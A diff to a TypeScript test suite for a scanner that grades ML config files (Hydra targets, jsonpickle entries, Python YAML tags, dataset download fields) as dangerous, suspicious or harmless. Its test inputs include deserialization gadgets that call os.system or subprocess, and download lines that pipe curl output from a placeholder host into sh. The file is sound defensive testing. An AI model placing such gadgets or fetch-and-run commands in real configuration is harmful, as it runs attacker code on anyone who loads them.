@@ -77,6 +77,60 @@ describe("names of what to call", () => {
     const bad = { "conf/config.yaml": text("m: {_target_: os.system}\n") };
     expect(verdictsOf(await detect(bad, "conf"))).toEqual(["CONFIG-GADGET dangerous"]);
   });
+
+  it.each([
+    ["train.yaml", "x: {_target_: torch.hub.load, repo_or_dir: a/b}", "suspicious"],
+    ["cfg.yaml", "x: {_target_: numpy.load, file: x.npy, allow_pickle: true}", "suspicious"],
+    ["hparams.yaml", "b: !apply:torch.load [x.pt]", "suspicious"],
+    ["any.yaml", "x: {_target_: functools.partial, _args_: [subprocess.run]}", "dangerous"],
+    ["any.yaml", "t: {_target_: '${a}.${b.c}'}\na: os\nb: {c: system}", "dangerous"],
+    ["any.json", '{"_target_": "os.system"}', "dangerous"],
+    ["any.json", '{"_t\\u0061rget_": "os.system"}', "dangerous"],
+    ["any.json", '{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}', "dangerous"],
+    ["any.json", '{"py/object/apply": ["os.system", "id"]}', "dangerous"],
+    ["any.json", '[{"py/type": "subprocess.Popen"}]', "dangerous"],
+  ])("that run or load code count in %s away from models: %s", async (name, content, verdict) => {
+    expect(verdictsOf(await detect({ [name]: text(content) }))).toEqual([`CONFIG-GADGET ${verdict}`]);
+  });
+
+  it.each([
+    ["a.yaml", "x: {_target_: numpy.load, file: x.npy}"],
+    ["a.yaml", "x: {_target_: torch.load, f: x.pt, weights_only: true}"],
+    ["a.yaml", "x: {_target_: functools.partial, _args_: [app.run]}"],
+    ["mkdocs.yml", "slug: !!python/object/apply:pymdownx.slugs.slugify {}"],
+    ["a.json", '{"py/object": "app.models.User"}'],
+    ["a.json", '{"target": "os.system", "params": {}}'],
+  ])("of an application are nothing in %s: %s", async (name, content) => {
+    expect(await detect({ [name]: text(content) })).toMatchObject({ hazards: [], roles: [] });
+  });
+
+  it("in groups of recipes belong to the model beside them", async () => {
+    const files = { "model.ckpt": "", "conf/model/x.yaml": text("_target_: own.Net\n") };
+    expect(verdictsOf(await detect(files, "conf/model"))).toEqual(["CONFIG-TARGET unknown"]);
+    const ran = { "out/model.ckpt": "", "out/.hydra/config.yaml": text("m: {_target_: own.Net}\n") };
+    expect(verdictsOf(await detect(ran, "out/.hydra"))).toEqual(["CONFIG-TARGET unknown"]);
+  });
+});
+
+describe("the description of a dataset", () => {
+  const dataset = (download: string, keys = "train: images\nval: images\nnames: [a]\n"): Promise<FolderReading> =>
+    detect({ "data.yaml": text(`${keys}download: ${download}\n`) });
+
+  it("that downloads by a script is suspicious, or as bad as the script", async () => {
+    const python = "|\n  from ultralytics.utils.downloads import download\n  download(['https://example.org/a.zip'])";
+    expect(verdictsOf(await dataset(python))).toEqual(["CONFIG-DOWNLOAD suspicious"]);
+    expect(verdictsOf(await dataset("bash data/get.sh"))).toEqual(["CONFIG-DOWNLOAD suspicious"]);
+    const hostile = "|\n  import os\n  os.system('curl https://example.org/x | sh')";
+    expect(verdictsOf(await dataset(hostile))).toEqual(["CONFIG-DOWNLOAD dangerous"]);
+    expect(verdictsOf(await dataset("bash -c 'curl https://example.org/x | sh'"))).toEqual([
+      "CONFIG-DOWNLOAD dangerous",
+    ]);
+  });
+
+  it("that downloads an archive, or is none, is nothing", async () => {
+    expect(verdictsOf(await dataset("https://example.org/a.zip"))).toEqual([]);
+    expect(verdictsOf(await dataset("bash x.sh", "steps: []\n"))).toEqual([]);
+  });
 });
 
 describe("tags of YAML", () => {
@@ -85,7 +139,7 @@ describe("tags of YAML", () => {
     ["!<tag:yaml.org,2002:python/object/apply:os.system> ['id']", ["CONFIG-GADGET dangerous"]],
     ["!!python/object/apply:%6fs.system ['id']", ["CONFIG-GADGET dangerous"]],
     ["!!python/tuple [!!python/object/new:subprocess.Popen [id]]", ["CONFIG-GADGET dangerous"]],
-    ["!!python/object/apply:own.make []", ["CONFIG-GADGET suspicious"]],
+    ["!!python/object/apply:own.make []", ["CONFIG-TARGET suspicious"]],
     ["!!python/object/apply:pathlib.PosixPath [a]", ["CONFIG-TARGET unknown"]],
     ["!!python/tuple [1, 2]", []],
     ["!apply:os.system [id]", ["CONFIG-GADGET dangerous"]],
